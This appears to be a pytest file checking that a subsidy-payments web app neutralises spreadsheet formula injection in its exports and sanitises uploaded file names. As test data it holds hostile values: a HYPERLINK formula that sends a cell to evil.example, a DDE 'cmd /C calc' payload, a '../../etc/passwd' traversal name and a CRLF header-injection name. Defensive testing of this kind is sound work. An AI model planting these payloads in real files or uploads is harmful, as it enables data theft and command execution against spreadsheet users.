# ruff: noqa: F811  (pytest fixtures imported from tests.web.staffing are parameters here)
"""Exports carry no live formula; uploaded file names reach no path and no header unescaped (issue 8).

A payments file whose name, village and group cells are formulas in disguise
(and one real formula cell) is uploaded and loaded through the real web
upload, then published.  Every download that can hold its text is then
opened: xlsx with openpyxl (no cell may be a formula, no text may start
with = + - @ tab or CR), csv with the csv module (no field may start so).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from werkzeug.http import parse_options_header

from etl import batches as transitions
from etl.specs import SPECS
from etl.templates import template_xlsx
from etl.text import FORMULA_STARTS
from fundquery.inspect import CATALOGUE
from fundquery.queries.datasets import DATASETS
from fundquery.uploads.staging import clean_file_name
from fundquery.web.db import get_db
from tests.sheets import PAY_HEADER, pay_row
from tests.web.accounts import add_user, csrf_token, sign_in
from tests.web.staffing import (  # noqa: F401 (fixtures)
    finance,
    funds_file,
    load,
    preview,
    staff_app,
    upload,
    with_funds,
)

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
HOSTILE_VILLAGE = "+SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_GROUP = "@SUM(1+1)"
HOSTILE_FILE = "=HYPERLINK(1).xlsx"
FORMULA = '=HYPERLINK("http://evil.example","H0002")'
STAGED_NAME = re.compile(
    r"^[0-9a-f]{64}(\.(xlsx|xls|csv|txt)|\.json|\.choice\.json|\.[a-z]+(\.[0-9a-f]{12})?\.preview\.json)?$"
)
ARCHIVED_NAME = re.compile(r"^[0-9a-f]{64}(\.(xlsx|xls|csv|txt))?$")


def hostile_rows() -> list[list]:
    row = pay_row(
        1, name=HOSTILE_NAME, amount="900.00"
    )  # 8.5 x 105 is 892.50: an off-standard payment
    row[5], row[6] = HOSTILE_VILLAGE, HOSTILE_GROUP
    return [PAY_HEADER, row, pay_row(2)]


def write_hostile_xlsx(path: Path) -> Path:
    """The rows as text cells, and one real formula (户号 of the second row) whose cached value is H0002."""
    book = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False})
    ws = book.add_worksheet("清册")
    for r, row in enumerate(hostile_rows()):
        for c, value in enumerate(row):
            ws.write_string(r, c, value)
    ws.write_formula(2, PAY_HEADER.index("户号"), FORMULA, None, "H0002")
    book.close()
    return path


def cells_of_xlsx(content: bytes, what: str) -> list[str]:
    """Every text cell of every sheet, after checking none is a formula or would run as one."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (what, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (
                        what,
                        ws.title,
                        cell.coordinate,
                        cell.value,
                    )
                    texts.append(cell.value)
    return texts


def is_number(text: str) -> bool:
    """-1792.50 is a number to a spreadsheet, not a formula."""
    return re.fullmatch(r"-?\d+(\.\d+)?", text) is not None


def cells_of_csv(content: bytes, what: str) -> list[str]:
    texts = []
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for field in row:
            assert not field.startswith(FORMULA_STARTS) or is_number(field), (what, field)
            texts.append(field)
    return texts


def download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    data = response.get_data()
    response.close()
    return data


@pytest.fixture
def hostile(staff_app, with_funds, tmp_path):
    """The hostile payments file uploaded, loaded and published; returns its preview data."""
    path = write_hostile_xlsx(tmp_path / HOSTILE_FILE)
    url, data = preview(with_funds, path)
    assert data["kind"] == "payments" and data["error_total"] == 0, data["errors"]
    assert load(with_funds, url, data, anyway=True).status_code == 302
    with staff_app.app_context():
        con = get_db()
        batch, name = con.execute(
            "SELECT batch_id, file_name FROM batches WHERE kind = 'payments'"
        ).fetchone()
        assert name == HOSTILE_FILE
        stored = con.execute(
            "SELECT name, village, village_group, household_no FROM payments ORDER BY row_no"
        ).fetchall()
        assert stored[0][:3] == (
            HOSTILE_NAME,
            HOSTILE_VILLAGE,
            HOSTILE_GROUP,
        )  # kept as written, as data
        assert stored[1][3] == "H0002"  # the formula's last value, as Excel computed it
        transitions.publish(con, batch, actor="reviewer")
    return data


def test_open_data_downloads_carry_no_formula(staff_app, hostile):
    client = staff_app.test_client()
    seen = []
    for name in DATASETS:
        seen += cells_of_csv(download(client, f"/opendata/{name}.csv"), f"{name}.csv")
        seen += cells_of_xlsx(download(client, f"/opendata/{name}.xlsx"), f"{name}.xlsx")
    assert "'" + HOSTILE_VILLAGE in seen and "'" + HOSTILE_GROUP in seen  # exported, defused
    assert any(t.startswith("'=") for t in seen)  # the masked hostile name, defused


def test_inspector_and_audit_exports_carry_no_formula(staff_app, hostile):
    add_user(staff_app, "li", "inspector", "admin")
    client = staff_app.test_client()
    assert sign_in(client, "li").status_code == 302
    seen = cells_of_xlsx(download(client, "/staff/inspect/report.xlsx"), "report.xlsx")
    for check in CATALOGUE:
        seen += cells_of_csv(
            download(client, f"/staff/inspect/check/{check.label}.csv"), check.label
        )
    assert "'" + HOSTILE_VILLAGE in seen  # the off-standard payment is in the report
    audit = cells_of_csv(download(client, "/staff/admin/audit?format=csv"), "audit.csv")
    audit += cells_of_xlsx(download(client, "/staff/admin/audit?format=xlsx"), "audit.xlsx")
    assert any(HOSTILE_FILE in t for t in audit)


def test_marked_copies_and_templates_carry_no_formula(staff_app, with_funds, tmp_path):
    xlsx = write_hostile_xlsx(tmp_path / "清册.xlsx")
    rows = hostile_rows()
    rows[1][PAY_HEADER.index("发放金额")] = (
        "=1+2"  # an error, so the findings sheet lists the value
    )
    with open(tmp_path / "清册.csv", "w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    for path in (xlsx, tmp_path / "清册.csv"):
        url, data = preview(with_funds, path)
        texts = cells_of_xlsx(
            download(with_funds, f"/staff/upload/{data['sha256']}/marked.xlsx?kind=auto"), path.name
        )
        assert "'" + HOSTILE_NAME in texts and "'" + HOSTILE_VILLAGE in texts
        if path.suffix == ".xlsx":
            assert "H0002" in texts  # the formula cell became its value
        else:
            assert "'=1+2" in texts
    for kind, spec in SPECS.items():
        if "finance" in spec.uploaders:
            cells_of_xlsx(download(with_funds, f"/staff/templates/{kind}.xlsx"), kind)
        else:  # a register's template is the inspectors' (tests/web/test_register_upload.py)
            cells_of_xlsx(template_xlsx(kind), kind)


NAMES = {
    "traversal": "../../etc/passwd.xlsx",
    "windows path": "C:\\Users\\财政所\\..\\清册.xlsx",
    "quote": 'a"; filename=evil.xlsx',
    "crlf": "a\r\nSet-Cookie: x=1\r\n.xlsx",
    "long": "发" * 300 + ".xlsx",
    "non-ascii": "2024年 耕地地力保护补贴 清册（城关镇）.xlsx",
    "formula": HOSTILE_FILE,
}


@pytest.mark.parametrize("sent", NAMES.values(), ids=NAMES.keys())
def test_uploaded_file_names_reach_no_path_or_header(staff_app, with_funds, tmp_path, sent):
    path = write_hostile_xlsx(tmp_path / "payments.xlsx")
    data = {
        "kind": "auto",
        "replaces": "",
        "csrf_token": csrf_token(with_funds, "/staff/upload"),
        "file": (io.BytesIO(path.read_bytes()), sent),
    }
    response = with_funds.post("/staff/upload", data=data, content_type="multipart/form-data")
    assert response.status_code in (302, 400), response.status_code
    uploads = Path(staff_app.config["DATABASE"]).parent / "uploads"
    assert all(STAGED_NAME.match(p.name) for p in (uploads / "staging").iterdir())
    if response.status_code == 400:
        return  # refused by the form (no allowed suffix): nothing more to check
    preview_data = with_funds.get(response.location + "&format=json").get_json()
    shown = preview_data[
        "file_name"
    ]  # as the server received it (the client may already have mangled it)
    assert shown == clean_file_name(shown)
    assert (
        "/" not in shown
        and "\\" not in shown
        and "\r" not in shown
        and "\n" not in shown
        and '"' not in shown
    )
    assert len(shown) <= 120
    page = with_funds.get(response.location)
    assert page.status_code == 200
    sha = response.location.split("/")[3].split("?")[0]
    marked = with_funds.get(f"/staff/upload/{sha}/marked.xlsx?kind=auto")
    assert marked.status_code == 200
    disposition = marked.headers["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    kind, params = parse_options_header(disposition)
    assert kind == "attachment"
    assert (
        params["filename"] == shown.rsplit(".", 1)[0] + "_问题标注.xlsx"
    )  # filename* decoded, or the plain one
    assert set(params) <= {"filename", "filename*"}
    assert load(with_funds, response.location, preview_data, anyway=True).status_code == 302
    assert all(ARCHIVED_NAME.match(p.name) for p in uploads.iterdir() if p.is_file())
    with staff_app.app_context():
        names = [
            r[0]
            for r in get_db().execute("SELECT file_name FROM batches ORDER BY batch_id").fetchall()
        ]
    assert names[-1] == shown
